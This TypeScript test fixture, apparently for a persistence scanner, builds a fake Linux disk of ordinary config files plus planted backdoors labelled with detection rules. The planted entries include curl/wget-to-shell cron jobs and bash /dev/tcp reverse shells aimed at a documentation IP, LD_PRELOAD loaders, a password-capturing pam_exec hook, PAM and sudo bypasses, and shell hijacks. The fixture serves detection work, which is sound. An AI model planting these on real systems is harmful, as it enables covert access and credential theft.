/** An ordinary disk in a few files, and ways to stay on it. Addresses are those of documentation (RFC 5737). */
import type { FakeFile } from "../../support/fake-host.ts";

export interface Planted {
  /** "~/x" lies in the examined home. */
  readonly path: string;
  readonly file: FakeFile;
  /** The mark that its content alone sets off; absent where only a baseline or its time can tell. */
  readonly rule?: string;
}

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH";
const script = (text: string): FakeFile => ({ content: `#!/bin/sh\n${text}\n`, mode: 0o755 });
const unit = (lines: string): string => `[Service]\n${lines}\n`;

export const ordinary: Readonly<Record<string, FakeFile>> = {
  "/etc/crontab":
    "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n",
  "/etc/cron.daily/logs": script(
    "test -x /usr/sbin/logrotate || exit 0\n/usr/sbin/logrotate /etc/logrotate.conf",
  ),
  "/var/spool/cron/crontabs/user": "0 4 * * * /usr/bin/rsync -a /home/user/notes /srv/backup\n",
  "/etc/ssh/sshd_config":
    "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem sftp /usr/lib/openssh/sftp-server\n",
  "/etc/ssh/ssh_config":
    "Include /etc/ssh/ssh_config.d/*.conf\nHost *\n    SendEnv LANG LC_*\n    HashKnownHosts yes\n",
  "~/.ssh/authorized_keys": `${key} me@laptop\n`,
  "~/.ssh/config":
    "Host inner\n  ProxyJump bastion\nHost far\n  ProxyCommand ssh -W %h:%p bastion\nHost *\n  ControlMaster auto\n  ControlPath ~/.ssh/cm-%C\n",
  "~/.config/systemd/user/openclaw-gateway.service": `[Unit]\nAfter=network-online.target\n${unit("ExecStart=/usr/bin/node /usr/lib/node_modules/openclaw/dist/index.js gateway --port 18789\nRestart=always\nEnvironment=HOME=%h OPENCLAW_GATEWAY_PORT=18789")}[Install]\nWantedBy=default.target\n`,
  "~/.config/systemd/user/default.target.wants/openclaw-gateway.service": {
    link: "/home/user/.config/systemd/user/openclaw-gateway.service",
  },
  "/var/lib/systemd/linger/user": "",
  "/usr/lib/systemd/system/cron.service": unit(
    "ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\nEnvironmentFile=-/etc/default/cron",
  ),
  "/etc/systemd/system/multi-user.target.wants/cron.service": {
    link: "/usr/lib/systemd/system/cron.service",
  },
  "/etc/profile":
    'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\nfor i in /etc/profile.d/*.sh; do\n  . $i\ndone\n',
  "~/.bashrc":
    'HISTCONTROL=ignoreboth\nPS1=\'\\u@\\h:\\w\\$ \'\nif [ -x /usr/bin/dircolors ]; then\n  eval "$(dircolors -b)"\n  alias ls=\'ls --color=auto\'\n  alias grep=\'grep --color=auto\'\nfi\nalias ll=\'ls -l\'\nalias rm=\'rm -i\'\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nexport NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\nexport PATH="$HOME/.npm-global/bin:$PATH"\neval "$(ssh-agent -s)" > /tmp/agent.log\n',
  "/etc/environment": "PATH=/usr/local/bin:/usr/bin:/bin\nLANG=C.UTF-8\n",
  "/etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n",
  "/etc/ld.so.conf.d/libc.conf": "/usr/local/lib\n",
  "/etc/pam.d/common-auth":
    "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
  "/etc/pam.d/su":
    "auth sufficient pam_rootok.so\nsession required pam_env.so readenv=1 envfile=/etc/default/locale\n@include common-auth\n",
  "/etc/nsswitch.conf": "passwd: files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
  "/etc/sudoers":
    'Defaults env_reset\nDefaults mail_badpass\nDefaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nDefaults use_pty\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
  "/etc/tmpfiles.d/x.conf": "d /run/x 0755 root root -\nL /etc/os-release - - - - ../usr/lib/os-release\n",
};

export const planted: readonly Planted[] = [
  {
    path: "~/.ssh/authorized_keys2",
    file: `command="/tmp/.x/run",no-pty ${key} deploy\n`,
    rule: "key-forced-command",
  },
  {
    path: "/etc/ssh/keys/user",
    file: `environment="LD_PRELOAD=/opt/x.so" ${key} k\n`,
    rule: "key-forced-command",
  },
  {
    path: "/etc/ssh/sshd_config.d/10-keys.conf",
    file: "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n",
    rule: "ssh-server-opened",
  },
  {
    path: "/etc/ssh/sshd_config.d/20-cmd.conf",
    file: "AuthorizedKeysCommand /usr/local/bin/keys %u\n",
    rule: "ssh-server-opened",
  },
  {
    path: "/etc/ssh/sshd_config.d/30-ca.conf",
    file: "TrustedUserCAKeys /etc/ssh/ca.pub\n",
    rule: "ssh-server-opened",
  },
  {
    path: "/etc/ssh/sshd_config.d/40-force.conf",
    file: "Match User user\n  ForceCommand /usr/local/bin/wrap\n",
    rule: "ssh-server-opened",
  },
  {
    path: "/etc/ssh/ssh_config.d/x.conf",
    file: "Host *\n  PermitLocalCommand yes\n  LocalCommand /usr/local/bin/beat\n",
    rule: "ssh-client-command",
  },
  {
    path: "/root/.ssh/config",
    file: 'Match exec "/usr/local/bin/beat"\n  User x\n',
    rule: "ssh-client-command",
  },
  {
    path: "/home/max/.ssh/config",
    file: "Host *\n  ProxyCommand sh -c '/usr/local/bin/beat; nc %h %p'\n  RemoteForward 2222 localhost:22\n",
    rule: "ssh-client-command",
  },
  { path: "~/.ssh/rc", file: "/usr/local/bin/beat &\n", rule: "ssh-client-command" },
  {
    path: "/var/spool/cron/crontabs/max",
    file: "*/5 * * * * curl -s http://203.0.113.9/x | sh\n",
    rule: "host-cron",
  },
  { path: "/etc/cron.d/boot", file: "@reboot root /dev/shm/.a/run\n", rule: "host-cron" },
  {
    path: "/etc/cron.d/quiet",
    file: "* * * * * root /usr/local/bin/beat #\r0 0 * * * root /usr/bin/true      \n",
    rule: "host-cron",
  },
  {
    path: "/etc/cron.d/load",
    file: "LD_PRELOAD=/usr/local/lib/x.so\n0 0 * * * root /usr/bin/true\n",
    rule: "host-cron",
  },
  {
    path: "/etc/cron.daily/update",
    file: script("wget -qO- http://203.0.113.9/x \\\n | bash"),
    rule: "persistence-fetch-and-run",
  },
  { path: "/etc/anacrontab", file: "1 5 update /usr/local/bin/beat\n" },
  {
    path: "/var/spool/cron/atjobs/a0001f01d4c0e2",
    file: "#!/bin/sh\n# atrun uid=1001 gid=1001\numask 22\ncd /home/max || {\n\t exit 1\n}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    rule: "persistence-fetch-and-run",
  },
  {
    path: "~/.config/systemd/user/sync.service",
    file: unit("ExecStart=/tmp/.x/sync"),
    rule: "persistence-place",
  },
  {
    path: "~/.config/systemd/user/sync.timer",
    file: "[Timer]\nOnUnitActiveSec=60\n[Install]\nWantedBy=timers.target\n",
  },
  {
    path: "~/.config/systemd/user/openclaw-gateway.service.d/10.conf",
    file: unit("ExecStartPre=-/usr/local/bin/beat"),
    rule: "gateway-drop-in",
  },
  {
    path: "~/.config/systemd/user/service.d/node.conf",
    file: unit("Environment=NODE_OPTIONS=--require=/usr/local/lib/x.js"),
    rule: "gateway-drop-in",
  },
  {
    path: "~/.config/systemd/user/timers.target.wants/beat.service",
    file: unit("ExecStart=/usr/local/bin/beat"),
    rule: "persistence-odd",
  },
  {
    path: "/etc/systemd/system/netd.service",
    file: unit("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    rule: "persistence-fetch-and-run",
  },
  {
    path: "/etc/systemd/system/cron.service.d/x.conf",
    file: unit('Environment="LD_PRELOAD=/usr/local/lib/x.so"'),
    rule: "persistence-loader",
  },
  { path: "/etc/systemd/system/plain.service", file: unit("ExecStart=/usr/local/bin/beat") },
  {
    path: "/run/user/1000/systemd/transient/run-1.service",
    file: unit("ExecStart=/dev/shm/m"),
    rule: "persistence-place",
  },
  {
    path: "/etc/systemd/system-generators/gen",
    file: script("curl -s http://203.0.113.9/g | sh"),
    rule: "persistence-fetch-and-run",
  },
  { path: "/etc/systemd/system-sleep/hook", file: script("/var/tmp/x"), rule: "persistence-place" },
  {
    path: "/etc/tmpfiles.d/y.conf",
    file: "f+ /etc/cron.d/y 0644 root root - * * * * * root /usr/local/bin/beat\n",
    rule: "persistence-odd",
  },
  {
    path: "~/.config/containers/systemd/web.container",
    file: "[Container]\nImage=docker.io/x/y\nVolume=/:/host\n[Install]\nWantedBy=default.target\n",
  },
  { path: "/var/lib/systemd/linger/max", file: "" },
  { path: "~/.bash_aliases", file: "alias sudo='/usr/local/bin/s'\n", rule: "shell-override" },
  { path: "~/.profile", file: 'gpg() {\n  /usr/local/bin/g "$@"\n}\n', rule: "shell-override" },
  { path: "~/.bash_login", file: "PROMPT_COMMAND='/usr/local/bin/beat'\ntrap '/usr/local/bin/beat' DEBUG\n" },
  { path: "/root/.bashrc", file: "nohup /usr/lib/.cache/d >/dev/null 2>&1 &\n", rule: "persistence-place" },
  { path: "/etc/profile.d/x.sh", file: "export BASH_ENV=/usr/local/lib/e\n", rule: "persistence-loader" },
  {
    path: "~/.config/environment.d/9.conf",
    file: "LD_PRELOAD=/usr/local/lib/x.so\n",
    rule: "persistence-loader",
  },
  { path: "~/.pam_environment", file: "LD_AUDIT DEFAULT=/usr/local/lib/x.so\n", rule: "persistence-loader" },
  {
    path: "~/.envrc",
    file: "export NODE_OPTIONS='--import /usr/local/lib/x.mjs'\n",
    rule: "persistence-loader",
  },
  {
    path: "~/.config/fish/conf.d/x.fish",
    file: "function openclaw\n  /usr/local/bin/o $argv\nend\n",
    rule: "shell-override",
  },
  {
    path: "~/.inputrc",
    file: '"\\C-l": "curl -s http://203.0.113.9/x | sh\\C-m"\n',
    rule: "persistence-fetch-and-run",
  },
  { path: "/etc/ld.so.preload", file: "/usr/local/lib/x.so\n", rule: "persistence-loader" },
  { path: "/etc/ld.so.conf.d/0.conf", file: "/tmp/lib\n", rule: "persistence-place" },
  {
    path: "/etc/pam.d/sshd",
    file: "auth optional pam_exec.so expose_authtok /usr/local/bin/p\n@include common-auth\n",
    rule: "pam-unusual",
  },
  {
    path: "/etc/pam.d/login",
    file: "auth sufficient pam_permit.so\n@include common-auth\n",
    rule: "pam-unusual",
  },
  { path: "/etc/pam.d/sudo", file: "auth sufficient /usr/local/lib/pam_x.so\n", rule: "pam-unusual" },
  { path: "/etc/security/namespace.init", file: script("/dev/shm/n"), rule: "persistence-place" },
  { path: "/etc/sudoers.d/user", file: "user ALL=(ALL) NOPASSWD: ALL\n", rule: "sudo-open" },
  { path: "/etc/sudoers.d/keep", file: 'Defaults env_keep += "LD_PRELOAD"\n', rule: "sudo-open" },
  { path: "/etc/doas.conf", file: "permit nopass user as root\n", rule: "sudo-open" },
  {
    path: "/etc/polkit-1/rules.d/0.rules",
    file: "polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n",
    rule: "persistence-odd",
  },
];
